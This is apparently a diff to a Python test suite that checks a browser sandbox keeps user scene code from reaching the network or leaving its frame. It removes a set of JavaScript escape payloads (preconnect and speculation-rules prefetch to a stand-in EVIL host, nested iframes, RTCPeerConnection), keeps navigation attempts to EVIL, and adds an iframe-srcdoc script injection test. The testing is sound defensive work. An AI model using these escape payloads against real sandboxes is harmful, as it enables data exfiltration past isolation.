@@ -1,5 +1,6 @@
 """The code of a scene may draw and nothing else: nothing gets out, and nothing in."""
 
+import json
 import re
 from collections.abc import AsyncIterator
 
@@ -10,13 +11,6 @@ from tests.model_server import CODE
 from tests.web.attacker import ESCAPES, Attacker
 from tests.web.window import Visitor, Window
 
-MORE = """
-  preconnect: () => quiet('link', {rel: 'preconnect', href: EVIL}),
-  speculation: () => quiet('script', {type: 'speculationrules',
-    textContent: JSON.stringify({prefetch: [{source: 'list', urls: [EVIL]}], prerender: [{source: 'list', urls: [EVIL]}]})}),
-  nestedPeer: () => quiet('iframe', {srcdoc: `<script>${call}</scr` + 'ipt>'}),
-  nestedBlank: () => { const f = document.createElement('iframe'); document.body.append(f); const RTCPeerConnection = f.contentWindow!.RTCPeerConnection; new Function('RTCPeerConnection', call)(RTCPeerConnection); throw Error('x') },
-"""
 LEAVING = {
     "assigned": "location.href = EVIL",
     "replaced": "location.replace(EVIL)",
@@ -57,7 +51,7 @@ async def heard_nothing(window: Window, attacker: Attacker) -> None:
 
 
 async def test_nothing_that_a_scene_tries_gets_out(owner: Visitor, attacker: Attacker) -> None:
-    code = ESCAPES % {"port": attacker.port, "own": owner.url, "more": MORE}
+    code = ESCAPES % {"port": attacker.port, "own": owner.url}
     project = await owner.project("Escapes", [("Escapes", code)])
     window = await owner.window(project)
     lines = window.stage.locator("p")
@@ -68,6 +62,25 @@ async def test_nothing_that_a_scene_tries_gets_out(owner: Visitor, attacker: Att
     await heard_nothing(window, attacker)
     assert window.page.url == f"{owner.url}/projects/{project}"
     window.complaints.clear()  # the browser names each attempt
+
+
+async def test_a_scene_may_use_markup_but_none_that_holds_a_page(owner: Visitor) -> None:
+    def with_markup(markup: str) -> str:
+        inner = f"{{{{__html: {json.dumps(markup)}}}}}"
+        return f"export default () => <div dangerouslySetInnerHTML={inner} />"
+
+    drawn = with_markup(
+        "<style>@keyframes x {}</style><svg><foreignObject><b>drawn</b></foreignObject></svg>"
+    )
+    framed = with_markup("<svg><IFRAME srcdoc='<script>alert(1)</script>'></IFRAME></svg>")
+    project = await owner.project("Markup", [("Drawn", drawn), ("Framed", framed)])
+    window = await owner.window(project)
+    await expect(window.stage.locator("b")).to_have_text("drawn")
+    assert window.complaints == []
+    await window.select("Framed")
+    await expect(window.player).to_have_attribute("data-state", "failed")
+    await expect(window.stage.locator("iframe")).to_have_count(0)
+    window.complaints.clear()  # the browser names the attempt
 
 
 async def test_a_scene_cannot_leave_its_frame(owner: Visitor, attacker: Attacker) -> None:
